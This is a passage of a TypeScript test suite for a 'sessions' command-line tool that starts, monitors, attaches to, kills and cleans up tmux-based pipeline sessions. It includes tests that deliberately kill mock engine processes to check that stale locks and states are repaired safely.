    const detail = JSON.parse((await cli(['status', 'work', '--json', '-C', root], { env: bd.env })).stdout)
    expect(detail.beads).toEqual({ done: 1, in_progress: ['bd-2'], ready: ['bd-3'], remaining: 2 })
    expect((await cli(['monitor', 'work', '-C', root], { env: bd.env })).stdout).toContain(
      'beads: 1 done · 1 in progress · 1 ready · 2 left',
    )
    const killed = JSON.parse((await cli(['kill', 'work', '--grace', '1', '--json', '-C', root], { env: bd.env })).stdout)
    expect(killed[0].beads_reopened).toEqual(['bd-2'])
    expect(readFileSync(bd.log, 'utf8')).toContain('update bd-2 --status=open')
    expect(JSON.parse(readFileSync(bd.data, 'utf8')).map((b: { status: string }) => b.status)).toEqual(['closed', 'open', 'open', 'open'])
  })

  test('start of a ralph session with no ready beads warns; cleanup of its stale lock reopens its beads', async () => {
    const root = await makeEngineProject()
    const bd = withBd([{ id: 'bd-9', status: 'in_progress', labels: ['pipeline/dry'] }])
    const run = await cli(['start', 'ralph', 'dry', '--yes', '-C', root], { env: { ...bd.env, MOCK_END: 'hang:1' } })
    expect(run.code).toBe(0)
    expect(run.stdout).toContain('! no ready beads labelled pipeline/dry: ralph will find its queue empty and stop')
    // The engine dies, and its mock's process with it, before either can tidy up (a SIGHUP from the
    // closed pane would let the mock remove the lock while the test puts it back); its lock is left behind.
    const lock = readJson(path.join(root, '.claude/locks/dry.lock'))
    const tree = [lock.pid, ...(await processDescendants(lock.pid))]
    for (const pid of tree) spawnSync('kill', ['-9', String(pid)])
    await waitFor('the engine gone', () => tree.every((pid) => !isPidAlive(pid)))
    spawnSync('tmux', ['-L', SOCKET, 'kill-session', '-t', '=pipeline-dry'], { env: ENV })
    writeFileSync(path.join(root, '.claude/locks/dry.lock'), JSON.stringify(lock))
    const clean = await cli(['cleanup', '--yes', '--grace', '1', '-C', root], { env: bd.env })
    expect(clean.stdout).toMatch(/removed \.claude\/locks\/dry\.lock \(PID \d+\); beads bd-9 back to open/)
  })

  test('without bd, nothing of beads shows and nothing fails', async () => {
    const root = await makeEngineProject()
    // bd hidden from every command: a PATH with no stand-in bd on it.
    const env = { MOCK_PACE: '5', PATH: '/usr/bin:/bin' }
    expect((await cli(['start', 'ralph', 'plain', '--yes', '-C', root], { env })).code).toBe(0)
    const row = rowOf(JSON.parse((await cli(['list', '--json', '-C', root], { env })).stdout).sessions, 'plain')
    expect(row).not.toHaveProperty('beads_remaining')
    expect(JSON.parse((await cli(['status', 'plain', '--json', '-C', root], { env })).stdout).beads).toBeNull()
    expect(JSON.parse((await cli(['monitor', 'plain', '--json', '-C', root], { env })).stdout).beads).toBeNull()
    const killed = await cli(['kill', 'plain', '--json', '-C', root], { env })
    expect(killed.code).toBe(0)
    expect(JSON.parse(killed.stdout)[0].beads_reopened).toEqual([])
  })
})

describe('the menu', () => {
  async function menu(root: string, env: Record<string, string> = {}) {
    terminal('ui', ['-C', root], { env })
    await waitFor('the actions', () => paneText('=ui:').includes('? What do you want to do'))
  }
  const keys = (...k: string[]) => tmux('send-keys', '-t', '=ui:', ...k)

  test('actions filtered by typing; sessions described, only those the action fits; then the command runs', async () => {
    const root = await makeEngineProject('complete-loop')
    expect((await cli(['start', 'ralph', 'alive', '9', '--yes', '-C', root], { env: { MOCK_PACE: '2' } })).code).toBe(0)
    await menu(root)
    expect(paneText('=ui:')).toMatch(/1 {2}start +start a new session/)
    keys('moni')
    await waitFor('the filter', () => !paneText('=ui:').includes('2  list'))
    keys('Enter')
    await waitFor('the sessions', () => paneText('=ui:').includes('? Monitor which session'))
    const screen = paneText('=ui:')
    expect(screen).toMatch(/1 {2}alive — ralph · iteration \d\/9 · running \d+s/)
    // A complete session is not offered for monitor.
    expect(screen).not.toContain('done-loop —')
    keys('Enter')
    await waitFor('the monitor', () => paneText('=ui:').includes('exit=0'))
    expect(paneText('=ui:')).toMatch(/alive: running · ralph · iteration/)
  })

  test('numbers pick an action; status offers every session', async () => {
    const root = await makeProject('complete-loop')
    await menu(root)
    keys('3')
    await waitFor('the filter', () => !paneText('=ui:').includes('2  list'))
    keys('Enter')
    await waitFor('the sessions', () => paneText('=ui:').includes('? Status of which session'))
    expect(paneText('=ui:')).toMatch(/done-loop — improve-plan · iteration 3\/3 · complete ended/)
    keys('Enter')
    await waitFor('the status', () => paneText('=ui:').includes('exit=0'))
    expect(tmux('capture-pane', '-p', '-J', '-S', '-200', '-t', '=ui:')).toContain('done-loop: complete')
  })

  test('a typed number picks that very session (not every label holding the digit); kill asks once more, naming it', async () => {
    const root = await makeEngineProject()
    for (const name of ['one-2', 'three-2', 'two-2'])
      expect((await cli(['start', 'ralph', name, '9', '--yes', '-C', root], { env: { MOCK_PACE: '5' } })).code).toBe(0)
    // The action typed, then the session's row number typed: the picker filters to that row alone. Each
    // step waits on the menu listing three live sessions in a pane, which the suite's other parts running
    // at once can make slow: 30 s each.
    const pick = async (action: string, question: string, row: string) => {
      await menu(root)
      keys(action)
      await waitFor('the filter', () => !paneText('=ui:').includes('list '), 30_000)
      keys('Enter')
      await waitFor('the sessions', () => paneText('=ui:').includes(question), 30_000)
      keys(row)
      await waitFor('one row', () => !paneText('=ui:').includes('one-2 —'), 30_000)
    }
    await pick('status', '? Status of which session', '2')
    expect(paneText('=ui:')).toContain('2  three-2 —')
    keys('Enter')
    await waitFor('the status', () => paneText('=ui:').includes('exit=0'))
    expect(tmux('capture-pane', '-p', '-J', '-S', '-200', '-t', '=ui:')).toContain('three-2: running')
    tmux('kill-session', '-t', '=ui')
    await pick('kill', '? Kill which session', '3')
    keys('Enter')
    await waitFor('the question', () => paneText('=ui:').includes('[y/N]'))
    expect(paneText('=ui:')).toMatch(/Kill two-2 — ralph · iteration \d\/9 · running/)
    keys('n', 'Enter')
    await waitFor('the answer', () => paneText('=ui:').includes('exit=0'))
    expect(paneText('=ui:')).toContain('Nothing was killed.')
    expect(rowOf((await listJson(root)).sessions, 'two-2').health).toBe('running')
    expect((await cli(['kill', 'one-2', 'three-2', 'two-2', '-C', root])).code).toBe(0)
  })

  test('start asks for type, name, max, provider and context, then confirms and starts', async () => {
    const root = await makeEngineProject()
    const record = path.join(BASE, `record-${projects}.jsonl`)
    await menu(root, { MOCK_PACE: '5', MOCK_RECORD: record })
    keys('Enter') // 1 start
    await waitFor('the types', () => paneText('=ui:').includes('? What to run'))
    expect(paneText('=ui:')).toContain('refine.yaml (pipeline)')
    keys('ralph')
    await waitFor('the filter', () => !paneText('=ui:').includes('refine.yaml'))
    keys('Enter')
    await waitFor('the name', () => paneText('=ui:').includes('? Session name'))
    keys('Bad Name', 'Enter')
    await waitFor('the refusal', () => paneText('=ui:').includes('lowercase letters, digits and hyphens'))
    keys('C-u', 'menu-made', 'Enter')
    await waitFor('the max', () => paneText('=ui:').includes('? Max iterations'))
    keys('C-u', '7', 'Enter')
    await waitFor('the provider', () => paneText('=ui:').includes('? Provider'))
    keys('codex', 'Enter')
    await waitFor('the context', () => paneText('=ui:').includes('? Context'))
    keys('Be careful', 'Enter')
    await waitFor('the confirmation', () => paneText('=ui:').includes('Start it? [y/N]'))
    keys('y', 'Enter')
    await waitFor('the start', () => paneText('=ui:').includes('exit=0'))
    expect(records(record)[0].argv).toEqual(['ralph', 'menu-made', '7', '--provider=codex', '--context=Be careful', '--foreground'])
  })

  test('without a terminal, the usage', async () => {
    const run = await cli([])
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(new RegExp(`^Usage: ${escaped(SELF)} <command>`))
  })
})

describe('list --watch', () => {
  test('a dashboard redrawn in place, with last output lines and change marks; q quits and restores the screen', async () => {
    const root = await makeEngineProject('complete-loop')
    expect((await cli(['start', 'ralph', 'live', '20', '--yes', '-C', root], { env: { MOCK_PACE: '1.5' } })).code).toBe(0)
    terminal('ui', ['list', '--watch', '--interval', '0.3', '-C', root], { height: 30, before: 'echo before-the-dashboard' })
    await waitFor('the dashboard', () => /live\s+ralph\s+-\s+\d+\/20\s+running/.test(paneText('=ui:')))
    expect(paneText('=ui:')).not.toContain('before-the-dashboard')
    expect(paneText('=ui:')).toMatch(/done-loop\s+improve-plan\s+-\s+3\/3\s+complete/)
    await waitFor('a last output line', () => /live: (Iteration \d+ of 20| {2}Mock iteration \d+ completed)/.test(paneText('=ui:')))
    await waitFor('a change mark', () => /^\* +live /m.test(paneText('=ui:')))
    expect(
      paneText('=ui:')
        .split('\n')
        .filter((line) => /^[* ] +live /.test(line)),
    ).toHaveLength(1)
    tmux('send-keys', '-t', '=ui:', 'q')
    await waitFor('the exit', () => paneText('=ui:').includes('exit=0'))
    expect(paneText('=ui:')).toContain('before-the-dashboard')
  })

  test('without a terminal, --watch is refused', async () => {
    const root = await makeProject('complete-loop')
    const run = await cli(['list', '--watch', '-C', root])
    expect(run.code).toBe(2)
    expect(run.stderr).toBe('sessions: list --watch needs a terminal; without one, run list again instead\n')
  })
})

describe('on a terminal', () => {
  test("colour on a terminal, none with NO_COLOR; the table fits the terminal's width", async () => {
    const root = await makeProject('running-multistage')
    // A pipeline with a long name, so that the table must give way in a narrow terminal.
    const plan = path.join(root, '.claude/pipeline-runs/multi/plan.json')
    writeFileSync(plan, JSON.stringify({ ...readJson(plan), pipeline: { name: 'a-very-long-pipeline-name-that-does-not-fit' } }))
    terminal('colour', ['list', '-C', root], { width: 70, height: 30, color: true })
    terminal('plain', ['list', '-C', root], { width: 70, height: 30 })
    for (const name of ['colour', 'plain']) await waitFor('the list', () => paneText(`=${name}:`).includes('exit=0'))
    const coloured = tmux('capture-pane', '-p', '-e', '-t', '=colour:')
    expect(coloured).toMatch(/\x1b\[[0-9;]*m/)
    expect(tmux('capture-pane', '-p', '-e', '-t', '=plain:')).not.toMatch(/\x1b\[[0-9;]*m/)
    const rows = paneText('=plain:')
      .split('\n')
      .filter((line) => /^(NAME|multi) /.test(line))
    expect(rows).toHaveLength(2)
    for (const line of rows) expect(line.length).toBeLessThanOrEqual(70)
    expect(rows[1]).toMatch(/^multi +a-very-long\S*… .*running/)
  })
})

describe('shell completion', () => {
  test("bash: commands, flags of the command, and the project's session names", async () => {
    const root = await makeProject('prefix-names')
    const script = path.join(BASE, `completion-${projects}.bash`)
    // As a child process: the script names the Node and loader that run this very file.
    const generated = cliProcess(['completion', 'bash'])
    expect(generated.code).toBe(0)
    writeFileSync(script, generated.stdout)
    const completeIn = (cwd: string, ...words: string[]) =>
      spawnSync(
        'bash',
        [
          '-c',
          `source ${JSON.stringify(script)}; COMP_WORDS=(${words.map((w) => `'${w}'`).join(' ')}); COMP_CWORD=${words.length - 1}; _sessions; printf '%s\\n' "\${COMPREPLY[@]}"`,
        ],
        { cwd, env: ENV, encoding: 'utf8' },
      )
        .stdout.trim()
        .split('\n')
        .sort()
    const complete = (...words: string[]) => completeIn(root, ...words)
    expect(complete('sessions', 'st')).toEqual(['start', 'status'])
    expect(complete('sessions', 'kill', '--g')).toEqual(['--grace'])
    expect(complete('sessions', 'status', 'au')).toEqual(['auth', 'auth-v2'])
    expect(complete('sessions', 'completion', '')).toEqual(['bash', 'fish', 'zsh'])
    expect(complete('sessions', 'cleanup', '--only', '')).toEqual(['locks', 'state', 'tmux'])
    // start: the project's stage types (and "pipeline"), then its pipeline files; resume: only what can be resumed.
    const engine = await makeEngineProject('crashed-loop')
    cpSync(path.join(LAYOUTS, 'complete-loop/.claude/pipeline-runs/done-loop'), path.join(engine, '.claude/pipeline-runs/done-loop'), {
      recursive: true,
    })
    expect(completeIn(engine, 'sessions', 'start', 'r')).toEqual(['ralph', 'refine-tasks'])
    expect(completeIn(engine, 'sessions', 'start', 'pi')).toEqual(['pipeline'])
    expect(completeIn(engine, 'sessions', 'start', 'pipeline', '')).toEqual(['refine.yaml'])
    expect(completeIn(engine, 'sessions', 'resume', '')).toEqual(['busy'])
    expect(completeIn(engine, 'sessions', 'status', '')).toEqual(['busy', 'done-loop'])
  })

  test('zsh and fish scripts; an unknown shell is a usage error', async () => {
    expect((await cli(['completion', 'zsh'])).stdout).toMatch(/^autoload -U \+X bashcompinit && bashcompinit\n/)
    const fish = (await cli(['completion', 'fish'])).stdout
    expect(fish).toContain(
      "complete -c sessions -n __fish_use_subcommand -a 'start list status cost monitor attach kill cleanup resume wait events notify supervise serve mcp setup completion help version'",
    )
    expect(fish).toContain("complete -c sessions -n '__fish_seen_subcommand_from cleanup' -l dry-run")
    const bad = await cli(['completion', 'csh'])
    expect(bad.code).toBe(2)
    expect(bad.stderr).toBe('sessions: completion: unknown shell "csh"; shells: bash, zsh, fish\n')
  })
})

describe('monitor', () => {
  test('a live session: a header and the last lines of its pane', async () => {
    const root = await makeEngineProject()
    expect(
      (await cli(['start', 'ralph', 'watched', '9', '--yes', '-C', root], { env: { MOCK_PACE: '0.3', MOCK_END: 'hang:3' } })).code,
    ).toBe(0)
    await waitFor('iteration 3', () => paneText('=pipeline-watched:').includes('Iteration 3 of 9'))
    const run = await cli(['monitor', 'watched', '-n', '3', '-C', root])
    expect(run.code).toBe(0)
    const lines = run.stdout.trimEnd().split('\n')
    // Its end, from the two iterations done: about seven more of theirs.
    expect(lines[0]).toMatch(/^watched: running · ralph · iteration 3\/9 · started .* · runtime \d+s · ends in (<1m|~\dm)$/)
    expect(lines.slice(-3)).toEqual(['Iteration 2 of 9', '  Mock iteration 2 completed', 'Iteration 3 of 9'])
    const json = JSON.parse((await cli(['monitor', 'watched', '--json', '-C', root])).stdout)
    expect(json).toMatchObject({ source: 'tmux', session: { name: 'watched', health: 'running' } })
  })

  test('an ended session: the same from the kept copy, saying so; with nothing kept, how it ended', async () => {
    const root = await makeEngineProject('complete-loop')
    expect((await cli(['start', 'ralph', 'short', '2', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })).code).toBe(0)
    await waitFor('the end', async () => (await status('short', { root })).health === 'complete')
    await waitFor('its tmux session gone', () => !tmuxSessionNames().includes('pipeline-short'))
    const run = await cli(['monitor', 'short', '-C', root])
    expect(run.stdout).toContain('(tmux session gone; from the kept copy .claude/pipeline-runs/short/session-output.log)')
    // The engine exits 1 at a loop's max iterations: monitor says that this is normal.
    expect(run.stdout.trimEnd().split('\n').slice(-4)).toEqual([
      'Session short complete',
      '',
      '[sessions] the engine exited with status 1',
      '(status 1 is normal here: the engine exits 1 when a loop stops at its max iterations)',
    ])
    const none = await cli(['monitor', 'done-loop', '-C', root])
    expect(none.code).toBe(0)
    expect(none.stdout).toContain('done-loop ended (complete: state says complete); no output was kept.')
    expect(none.stdout).toContain('Its progress notes: .claude/pipeline-runs/done-loop/progress-done-loop.md')
  })

  test('--follow prints new output until the session ends, then how it ended', async () => {
    const root = await makeEngineProject()
    expect((await cli(['start', 'ralph', 'followed', '4', '--yes', '-C', root], { env: { MOCK_PACE: '0.4' } })).code).toBe(0)
    const run = await cli(['monitor', 'followed', '--follow', '-n', '1', '-C', root])
    expect(run.code).toBe(0)
    expect(run.stdout).toContain('Iteration 4 of 4')
    expect(run.stdout).toContain('Session followed complete')
    expect(run.stdout.trimEnd().split('\n').at(-1)).toBe('followed ended: complete (state says complete)')
    expect(run.stdout.match(/Iteration 4 of 4/g)).toHaveLength(1)
  })
})

describe('attach', () => {
  test('without a terminal: a preview, then the command to run; exit 0', async () => {
    const root = await makeProject('running-loop')
    const run = await cli(['attach', 'busy', '-C', root])
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/^busy: running/)
    expect(run.stdout).toContain(`Not a terminal; to watch it live, run:\n  tmux -u -L ${SOCKET} attach-session -t =pipeline-busy\n`)
  })

  test('a session that is not running: how it ended and where its results are; exit 1', async () => {
    const root = await makeProject('complete-loop')
    const run = await cli(['attach', 'done-loop', '-C', root])
    expect(run.code).toBe(1)
    expect(run.stderr).toBe(
      'sessions: done-loop is not running (complete: state says complete); its results: .claude/pipeline-runs/done-loop, progress .claude/pipeline-runs/done-loop/progress-done-loop.md\n',
    )
  })

  test("in a terminal it attaches: a client of the session's server appears on it", async () => {
    const root = await makeProject('running-loop')
    const outer = `${SOCKET}-term`
    try {
      // A terminal: a pane of another private server (its TMUX names that server, not ours).
      execFileSync(
        'tmux',
        [
          '-L',
          outer,
          'new-session',
          '-d',
          '-s',
          'terminal',
          '-x',
          '160',
          '-y',
          '45',
          `${TSX} ${SESSIONS} attach busy --read-only -C ${root}`,
        ],
        { env: ENV },
      )
      await waitFor('the client', () => tmux('list-clients', '-F', '#{client_session} #{client_readonly}').trim() === 'pipeline-busy 1')
    } finally {
      spawnSync('tmux', ['-L', outer, 'kill-server'], { env: ENV })
    }
  })

  test('inside tmux it switches the client instead of nesting', async () => {
    const root = await makeProject('running-loop')
    // A real client: a terminal (a pane of a second private server) attached to session "viewer".
    tmux('new-session', '-d', '-s', 'viewer', '-x', '150', '-y', '40', '-c', root)
    const outer = `${SOCKET}-outer`
    const outerTmux = (...args: string[]) => execFileSync('tmux', ['-L', outer, ...args], { env: ENV, encoding: 'utf8' })
    try {
      outerTmux('new-session', '-d', '-s', 'terminal', '-x', '160', '-y', '45', `env -u TMUX tmux -L ${SOCKET} attach -t =viewer`)
      await waitFor('the client', () => tmux('list-clients', '-F', '#{client_session}').includes('viewer'))
      tmux('send-keys', '-t', '=viewer:', `${TSX} ${SESSIONS} attach busy -C ${root}`, 'Enter')
      await waitFor('the switch', () => tmux('list-clients', '-F', '#{client_session}').trim() === 'pipeline-busy', 20_000)
    } finally {
      spawnSync('tmux', ['-L', outer, 'kill-server'], { env: ENV })
    }
  })
})

/** Every file under the run folders except state.json and the kept output: what must never change. */
function workSnapshot(root: string): Record<string, string> {
  const all = snapshot(path.join(root, '.claude', 'pipeline-runs'))
  return Object.fromEntries(Object.entries(all).filter(([file]) => !/(^|\/)(state\.json|session-output\.log)$/.test(file)))
}

function tmuxPanes(): string[] {
  const result = spawnSync('tmux', ['-L', SOCKET, 'list-panes', '-a', '-F', '#{session_name} #{pane_pid} #{pane_dead}'], {
    env: ENV,
    encoding: 'utf8',
  })
  return result.status === 0 ? result.stdout.trim().split('\n').sort() : []
}

describe('cleanup', () => {
  async function troubled(): Promise<string> {
    // busy: crashed (stale lock, state running). hup: zombie. done-loop: complete. lonely: orphaned tmux.
    const root = await makeProject('crashed-loop')
    for (const fixture of ['tmux-killed-loop', 'complete-loop']) {
      cpSync(path.join(LAYOUTS, fixture, '.claude/pipeline-runs'), path.join(root, '.claude/pipeline-runs'), { recursive: true })
    }
    tmux('new-session', '-d', '-s', 'pipeline-lonely', '-c', root, 'sleep 3600')
    return root
  }

  test('without a terminal and without --yes: the problems by kind with their evidence; nothing changed', async () => {
    const root = await troubled()
    const before = [snapshot(root), tmuxPanes()]
    const run = await cli(['cleanup', '--start-grace', '0', '-C', root])
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(
      /Orphaned tmux sessions:\n {2}lonely — tmux session pipeline-lonely has no engine behind it \(pane PID \d+\), alive for \d+s/,
    )
    expect(run.stdout).toMatch(/Stale locks:\n {2}busy — lock PID \d+ is dead; last iteration 2 finished .* ago\n/)
    expect(run.stdout).toMatch(
      /Zombie states:\n {2}busy — state says running, but nothing is alive; .*\n {2}hup — state says running, but nothing is alive/,
    )
    expect(run.stdout).toContain(`Nothing was changed. To repair (or add --only locks|tmux|state):\n  ${hinted('cleanup --yes', root)}`)
    expect(run.stdout).toContain(`busy (crashed): ${hinted('resume busy', root)}`)
    expect(run.stdout).not.toMatch(/done-loop —/)
    expect([snapshot(root), tmuxPanes()]).toEqual(before)
    const dry = await cli(['cleanup', '--dry-run', '--json', '-C', root])
    expect(JSON.parse(dry.stdout)).toMatchObject({ mode: 'dry_run', fixed: { locks: 0, tmux: 0, state: 0 } })
    expect([snapshot(root), tmuxPanes()]).toEqual(before)
  })

  test('--yes fixes all: lock removed, orphan killed, states marked with every other field kept, work byte for byte', async () => {
    const root = await troubled()
    const work = workSnapshot(root)
    const busyState = readJson(path.join(root, '.claude/pipeline-runs/busy/state.json'))
    const orphanPid = Number(tmux('display-message', '-p', '-t', '=pipeline-lonely:', '#{pane_pid}').trim())
    const run = await cli(['cleanup', '--yes', '--json', '--start-grace', '0', '-C', root])
    expect(run.code).toBe(0)
    const result = JSON.parse(run.stdout)
    expect(result).toMatchObject({ mode: 'fixed', fixed: { locks: 1, tmux: 1, state: 2 } })
    expect(existsSync(path.join(root, '.claude/locks/busy.lock'))).toBe(false)
    expect(tmuxSessionNames()).not.toContain('pipeline-lonely')
    expect(isPidAlive(orphanPid)).toBe(false)
    const after = readJson(path.join(root, '.claude/pipeline-runs/busy/state.json'))
    expect(after).toEqual({ ...busyState, status: 'unknown_termination', terminated_at: expect.stringMatching(/Z$/) })
    expect(readJson(path.join(root, '.claude/pipeline-runs/hup/state.json')).status).toBe('unknown_termination')
    expect(workSnapshot(root)).toEqual(work)
    const again = JSON.parse((await cli(['cleanup', '--json', '-C', root])).stdout)
    expect(again.problems).toEqual([])
    expect((await cli(['cleanup', '-C', root])).stdout).toMatch(
      /No problems\.\nNothing to repair in: busy \(unknown_termination\), done-loop \(complete\), hup \(unknown_termination\)/,
    )
  })

  test('--only locks fixes stale locks alone', async () => {
    const root = await troubled()
    const run = await cli(['cleanup', '--yes', '--only', 'locks', '--start-grace', '0', '-C', root])
    expect(run.code).toBe(0)
    expect(run.stdout).toContain('Fixed: 1 stale lock')
    expect(existsSync(path.join(root, '.claude/locks/busy.lock'))).toBe(false)
    expect(readJson(path.join(root, '.claude/pipeline-runs/busy/state.json')).status).toBe('running')
    expect(tmuxSessionNames()).toContain('pipeline-lonely')
  })

  test('in a terminal it asks: stale locks only, or one by one', async () => {
    const root = await troubled()
    terminal('ui', ['cleanup', '-C', root], { height: 50 })
    await waitFor('the menu', () => paneText('=ui:').includes('Choose [1-4]:'))
    expect(paneText('=ui:')).toContain('1) fix all   2) one by one   3) stale locks only   4) cancel')
    tmux('send-keys', '-t', '=ui:', '3', 'Enter')
    await waitFor('the end', () => paneText('=ui:').includes('exit=0'))
    expect(existsSync(path.join(root, '.claude/locks/busy.lock'))).toBe(false)
    expect(readJson(path.join(root, '.claude/pipeline-runs/hup/state.json')).status).toBe('running')

    tmux('kill-session', '-t', '=ui')
    terminal('ui2', ['cleanup', '-C', root], { height: 50 })
    await waitFor('the menu', () => paneText('=ui2:').includes('Choose [1-4]:'))
    tmux('send-keys', '-t', '=ui2:', '2', 'Enter')
    // One by one, in the order shown: busy's state (no), hup's state (yes).
    await waitFor(
      'the first question',
      () => paneText('=ui2:').includes('busy: state says running') && paneText('=ui2:').includes('. Fix it? [y/N]'),
    )
    tmux('send-keys', '-t', '=ui2:', 'n', 'Enter')
    await waitFor('the second question', () => paneText('=ui2:').includes('hup: state says running'))
    tmux('send-keys', '-t', '=ui2:', 'y', 'Enter')
    await waitFor('the end', () => paneText('=ui2:').includes('exit=0'))
    expect(readJson(path.join(root, '.claude/pipeline-runs/busy/state.json')).status).toBe('running')
    expect(readJson(path.join(root, '.claude/pipeline-runs/hup/state.json')).status).toBe('unknown_termination')
  })
})

describe('safety: what it never does, proven by inflicting the faults', () => {
  test('prefix names: status, monitor, attach, kill and cleanup of auth never touch or report auth-v2', async () => {
    const root = await makeProject('prefix-names')
    const before = [snapshot(root), tmuxPanes()]
    const v2 = readJson(path.join(root, '.claude/locks/auth-v2.lock')).pid
    const statusJson = JSON.parse((await cli(['status', 'auth', '--json', '-C', root])).stdout)
    expect(statusJson).toMatchObject({ name: 'auth', health: 'complete', tmux: null, lock: null })
    const mon = await cli(['monitor', 'auth', '-C', root])
    expect(mon.stdout).toContain('auth ended (complete: state says complete); no output was kept.')
    expect((await cli(['attach', 'auth', '-C', root])).code).toBe(1)
    expect((await cli(['kill', 'auth', '-C', root])).stdout).toMatch(/^auth is not running/)
    const clean = JSON.parse((await cli(['cleanup', '--yes', '--json', '-C', root])).stdout)
    expect(clean.problems).toEqual([])
    expect(clean.healthy).toEqual([
      { name: 'auth', health: 'complete' },
      { name: 'auth-v2', health: 'running' },
    ])
    for (const output of [JSON.stringify(statusJson), mon.stdout]) expect(output).not.toContain('auth-v2')
    expect(isPidAlive(v2)).toBe(true)
    expect([snapshot(root), tmuxPanes()]).toEqual(before)
  })

  test("another project's sessions, alive and dead, are left exactly as they were by cleanup --yes and kill", async () => {
    const root = await troubled()
    const other = await makeProject('other-project')
    // A dead pane in the other project too.
    tmux('new-session', '-d', '-s', 'pipeline-gone', '-c', other, 'sleep 600')
    tmux('set-option', '-w', '-t', '=pipeline-gone:', 'remain-on-exit', 'on')
    tmux('respawn-pane', '-k', '-t', '=pipeline-gone:', 'exit 3')
    await waitFor('the dead pane', () => tmuxPanes().some((pane) => pane.startsWith('pipeline-gone ') && pane.endsWith(' 1')))
    const theirs = () => [snapshot(other), tmuxPanes().filter((pane) => /^pipeline-(shared|elsewhere|gone) /.test(pane))]
    const before = theirs()
    const run = await cli(['cleanup', '--yes', '--start-grace', '0', '-C', root])
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/Other projects on this tmux server \(never touched\): .*pipeline-gone/)
    expect((await cli(['kill', 'shared', 'elsewhere', 'gone', '-C', root])).code).toBe(1)
    expect(theirs()).toEqual(before)
  })

  async function troubled(): Promise<string> {
    const root = await makeProject('crashed-loop')
    cpSync(path.join(LAYOUTS, 'tmux-killed-loop/.claude/pipeline-runs'), path.join(root, '.claude/pipeline-runs'), { recursive: true })
    tmux('new-session', '-d', '-s', 'pipeline-lonely', '-c', root, 'sleep 3600')
    return root
  }

  test('PID reuse: the lock is cleaned as stale and the unrelated process is never signalled', async () => {
    const root = await makeProject('reused-pid')
    const pid = readJson(path.join(root, '.claude/locks/busy.lock')).pid
    const run = await cli(['cleanup', '--yes', '-C', root])
    expect(run.stdout).toMatch(/busy — lock PID \d+ is alive but is `sleep 3600` in .*, not the engine of busy; .* → removed/)
    expect(existsSync(path.join(root, '.claude/locks/busy.lock'))).toBe(false)
    expect(isPidAlive(pid)).toBe(true)
  })

  test('a session that starts between the scan and the fix is left alone', async () => {
    const root = await makeProject('crashed-loop')
    const scan = await scanCleanup({ root, socket: SOCKET })
    expect(scan.problems.map((p) => p.problem)).toEqual(['stale_lock', 'zombie_state'])
    // The engine comes back: a live process takes the lock.
    const lockFile = path.join(root, '.claude/locks/busy.lock')
    const pid = startLockHolder(lockFile)
    await flockTaken(lockFile)
    writeFileSync(lockFile, JSON.stringify({ session: 'busy', pid, started_at: isoSeconds(Date.now()) }))
    const before = snapshot(root)
    const done = await applyCleanup(scan, { root, socket: SOCKET })
    expect(done.problems.map((p) => [p.fixed, p.outcome, p.reason])).toEqual([
      [null, 'left_alone', 'the session is alive now'],
      [null, 'left_alone', 'the session is alive now'],
    ])
    expect(snapshot(root)).toEqual(before)
  })

  test('two cleanup --yes at once end with the same result as one', async () => {
    const root = await troubled()
    const spawnCleanup = () =>
      new Promise<number | null>((resolve) => {
        spawn(TSX, [SESSIONS, 'cleanup', '--yes', '--start-grace', '0', '-C', root], { env: ENV, stdio: 'ignore' }).on('exit', resolve)
      })
    const codes = await Promise.all([spawnCleanup(), spawnCleanup()])
    expect(codes).toEqual([0, 0])
    expect(existsSync(path.join(root, '.claude/locks/busy.lock'))).toBe(false)
    expect(existsSync(path.join(root, '.claude/sessions-cleanup.lock'))).toBe(false)
    for (const name of ['busy', 'hup'])
      expect(readJson(path.join(root, `.claude/pipeline-runs/${name}/state.json`)).status).toBe('unknown_termination')
    expect(tmuxSessionNames()).not.toContain('pipeline-lonely')
    expect(JSON.parse((await cli(['cleanup', '--json', '-C', root])).stdout).problems).toEqual([])
  })

  test('kill of an engine rewriting its state in a hot loop: the state is marked only once the engine is stopped, so the mark stays', async () => {
    const root = await makeEngineProject()
    expect((await cli(['start', 'ralph', 'busy-writer', '100000', '--yes', '-C', root], { env: { MOCK_PACE: '0' } })).code).toBe(0)
    const stateFile = path.join(root, '.claude/pipeline-runs/busy-writer/state.json')
    await waitFor('a few iterations', () => readJson(stateFile).iteration_completed > 3)
    expect((await cli(['kill', 'busy-writer', '--grace', '0', '-C', root])).code).toBe(0)
    // Had the state been marked before the engine stopped, its next write would have replaced the mark.
    const state = readJson(path.join(root, '.claude/pipeline-runs/busy-writer/state.json'))
    expect(state.status).toBe('killed')
    expect(state.iteration_completed).toBeGreaterThan(1)
  })

  test('the tmux server killed under running sessions: after cleanup --yes, no stale lock, states marked, work byte for byte', async () => {
    const root = await makeEngineProject()
    for (const name of ['one', 'two'])
      expect((await cli(['start', 'ralph', name, '--yes', '-C', root], { env: { MOCK_PACE: '0.3' } })).code).toBe(0)
    await waitFor('an iteration each', () =>
      ['one', 'two'].every((n) => readJson(path.join(root, `.claude/pipeline-runs/${n}/state.json`)).iteration_completed >= 1),
    )
    killServer()
    await waitFor('the engines gone', async () => (await listJson(root)).sessions.every((s) => s.health !== 'running'))
    const work = workSnapshot(root)
    const run = await cli(['cleanup', '--yes', '--grace', '1', '-C', root])
    expect(run.code).toBe(0)
    for (const name of ['one', 'two']) {
      expect(existsSync(path.join(root, `.claude/locks/${name}.lock`))).toBe(false)
      expect(readJson(path.join(root, `.claude/pipeline-runs/${name}/state.json`)).status).toBe('unknown_termination')
    }
    expect(workSnapshot(root)).toEqual(work)
    expect(await processesOf(root)).toEqual([])
  })

  test('the engine killed with SIGKILL mid-iteration, its agents left running: cleanup stops them and marks everything', async () => {
    const root = await makeEngineProject()
    const { lock: lockFile, enginePid: engine, agents } = await startHungAgent(root, 'shot', { MOCK_AGENT_DETACHED: '1' })
    process.kill(engine, 'SIGKILL')
    await waitFor('the engine gone', () => !isPidAlive(engine))
    await waitFor('its tmux session gone', () => !tmuxSessionNames().includes('pipeline-shot'))
    for (const pid of agents) expect(isPidAlive(pid), `agent ${pid} outlives its engine`).toBe(true)
    expect(existsSync(lockFile)).toBe(true)
    const work = workSnapshot(root)
